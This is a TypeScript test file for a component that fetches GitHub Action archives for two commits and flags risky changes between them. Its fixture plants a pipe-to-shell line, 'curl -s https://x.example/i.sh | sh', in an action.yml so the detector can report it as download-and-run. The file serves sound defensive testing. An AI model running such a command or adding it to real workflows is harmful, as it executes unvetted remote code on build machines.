import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { AddedOrChanged } from '../../../src/domain/change.ts';
import type { ArchiveDelta } from '../../../src/domain/facts.ts';
import type { Known } from '../../../src/domain/known.ts';
import type { Subject } from '../../../src/evidence/source.ts';
import { actionArchivesSource } from '../../../src/adapters/artifacts/action-archives-source.ts';
import { openAnalysisPool, type AnalysisPool } from '../../../src/adapters/artifacts/analysis-pool.ts';
import type { ArchiveLimits } from '../../../src/adapters/artifacts/limits.ts';
import { createHttpClient } from '../../../src/adapters/http/client.ts';
import { countedHttp } from '../../../src/adapters/http/counted.ts';
import { allowedFor, rootsOf } from '../../../src/adapters/roots.ts';
import { tarGz } from '../../fakes/archives.ts';
import { addition, bump, commit, fact } from '../../support/build.ts';

const now = '2026-05-01T00:00:00Z';
const [old, current] = ['a'.repeat(40), 'b'.repeat(40)];
const yml = 'runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        make\n';
const before = tarGz({ 'action.yml': yml }, `o-r-${old}`);
const after = tarGz({ 'action.yml': `${yml}        curl -s https://x.example/i.sh | sh\n` }, `o-r-${current}`);

interface Seen {
  readonly path: string;
  readonly token: string | undefined;
}
type Served = { readonly status?: number; readonly to?: string; readonly body?: Buffer };

const servers: Server[] = [];

/** A host that answers by path and notes what it was asked. */
async function host(answers: (path: string) => Served): Promise<{ readonly url: string; readonly seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer((request, response) => {
    const path = request.url ?? '';
    seen.push({ path, token: request.headers.authorization });
    const { status = 200, to, body } = answers(path);
    response.writeHead(to === undefined ? status : 302, to === undefined ? {} : { location: to }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  servers.push(server);
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, seen };
}

function packed(path: string): Served {
  if (path.endsWith(old)) return { body: before };
  return path.endsWith(current) ? { body: after } : { status: 404 };
}

function subject(change: AddedOrChanged, found: Subject['found'] = {}): Subject {
  return { change, now, wanted: new Set(['archive']), after: undefined, before: undefined, found };
}

function changed(over: { from?: string; to?: string; subpath?: string } = {}): AddedOrChanged {
  const { from = old, to = current, subpath } = over;
  const entry = (version: string) => ({
    ecosystem: 'githubactions' as const,
    name: 'o/r',
    version,
    ...(subpath === undefined ? {} : { subpath }),
  });
  return bump({ before: entry(from), after: entry(to) });
}

describe('actionArchivesSource', () => {
  let pool: AnalysisPool;
  beforeAll(() => {
    pool = openAnalysisPool({ size: 1, timeoutMs: 30_000 });
  });
  afterEach(() => {
    for (const server of servers.splice(0)) server.close().closeAllConnections();
  });
  afterAll(() => pool.close());

  async function collect(
    root: string,
    asked: readonly Subject[],
    limits: Partial<ArchiveLimits> = {},
  ): Promise<readonly (Known<ArchiveDelta> | undefined)[]> {
    const roots = rootsOf({ githubApi: root, githubToken: 'secret' });
    const http = createHttpClient({ roots: allowedFor(roots) });
    const source = actionArchivesSource({ http: countedHttp(http), root, pool, now: () => now, limits });
    const budget = { signal: new AbortController().signal, left: () => 20_000 };
    try {
      return (await Promise.all(asked.map((one) => source.collect(one, budget)))).map(({ archive }) => archive);
    } finally {
      await http.close();
    }
  }

  it('compares both commits with one request a side', async () => {
    const github = await host(packed);
    const [archive] = await collect(github.url, [subject(changed())]);
    expect(archive).toMatchObject({
      state: 'known',
      value: { capabilities: expect.arrayContaining([expect.objectContaining({ kind: 'download-and-run', line: 7 })]) },
    });
    expect(github.seen.map(({ path }) => path).toSorted()).toEqual([
      `/repos/o/r/tarball/${old}`,
      `/repos/o/r/tarball/${current}`,
    ]);
  });

  it('shares the archives among the actions of one repository', async () => {
    const github = await host(packed);
    const answers = await collect(github.url, [subject(changed()), subject(changed({ subpath: 'sub' }))]);
    expect(answers.map((one) => one?.state)).toEqual(['known', 'unknown']);
    expect(answers[1]).toMatchObject({ cause: 'not-told', reason: expect.stringContaining('no action in sub') });
    expect(github.seen).toHaveLength(2);
  });

  it('takes the commits that tags were found to lead to', async () => {
    const github = await host(packed);
    const found = { pinnedCommit: fact(commit({ sha: current })), previousCommit: fact(commit({ sha: old })) };
    const [archive] = await collect(github.url, [subject(changed({ from: 'v1', to: 'v2' }), found)]);
    expect(archive?.state).toBe('known');
  });

  it('follows the redirect to GitHub’s own host', async () => {
    const github = await host((path) => (path.startsWith('/repos/') ? { to: `/_codeload${path}` } : packed(path)));
    const [archive] = await collect(github.url, [subject(changed())]);
    expect(archive?.state).toBe('known');
    expect(github.seen).toHaveLength(4);
  });

  it('follows no redirect to another host, and sends nothing there', async () => {
    const other = await host(packed);
    const github = await host((path) => ({ to: other.url + path.slice(1) }));
    const [archive] = await collect(github.url, [subject(changed())]);
    expect(archive).toMatchObject({
      state: 'unknown',
      cause: 'not-told',
      reason: expect.stringContaining('redirects'),
    });
    expect(other.seen).toEqual([]);
    expect(github.seen.map(({ token }) => token)).toEqual(['Bearer secret', 'Bearer secret']);
  });

  it.each([
    ['is not there', 404, 'not-told'],
    ['may not be seen', 403, undefined],
    ['cannot be packed now', 503, undefined],
  ])('says why where the commit %s', async (_what, status, cause) => {
    const github = await host((path) => (path.endsWith(old) ? packed(path) : { status }));
    const [archive] = await collect(github.url, [subject(changed())]);
    expect(archive).toMatchObject({
      state: 'unknown',
      from: 'github-archives',
      reason: expect.stringMatching(/o\/r@b/),
    });
    expect(archive?.state === 'unknown' ? archive.cause : 'known').toBe(cause);
  });

  it('excuses a repository that always was too large, and not one that grew beyond the limit', async () => {
    const github = await host((path) => (path.endsWith(old) ? packed(path) : { body: Buffer.alloc(9_000) }));
    const [grown] = await collect(github.url, [subject(changed())], { compressed: 8_000 });
    expect(grown).toMatchObject({ state: 'unknown', reason: expect.stringContaining('more than is read') });
    expect(grown).not.toHaveProperty('cause');
    const [huge] = await collect(github.url, [subject(changed())], { compressed: 100 });
    expect(huge).toMatchObject({ state: 'unknown', cause: 'not-told' });
  });

  it('does not take an archive that breaks off for an empty one', async () => {
    const github = await host((path) =>
      path.endsWith(old) ? packed(path) : { body: after.subarray(0, after.length - 20) },
    );
    const [archive] = await collect(github.url, [subject(changed())]);
    expect(archive).toMatchObject({ state: 'unknown', reason: expect.stringContaining('broken') });
    expect(archive).not.toHaveProperty('cause');
  });

  it.each([
    ['an action that is new in the file', addition({ ecosystem: 'githubactions', name: 'o/r', version: current })],
    ['the same commit under another name', changed({ from: current })],
  ])('asks nothing about %s', async (_what, change) => {
    const github = await host(packed);
    const [archive] = await collect(github.url, [subject(change)]);
    expect(archive?.state).toBe('absent');
    expect(github.seen).toEqual([]);
  });

  it.each([
    ['a reusable workflow', changed({ subpath: '.github/workflows/x.yml' }), {}],
    ['a tag whose commit is not known', changed({ to: 'v2' }), {}],
    ['a tag that is not there', changed({ to: 'v2' }), { pinnedCommit: fact(commit({ sha: 'v2', exists: false })) }],
  ])('asks nothing about %s, and says so', async (_what, change, found) => {
    const github = await host(packed);
    const [archive] = await collect(github.url, [subject(change, found)]);
    expect(archive).toMatchObject({ state: 'unknown', cause: 'not-told' });
    expect(github.seen).toEqual([]);
  });
});
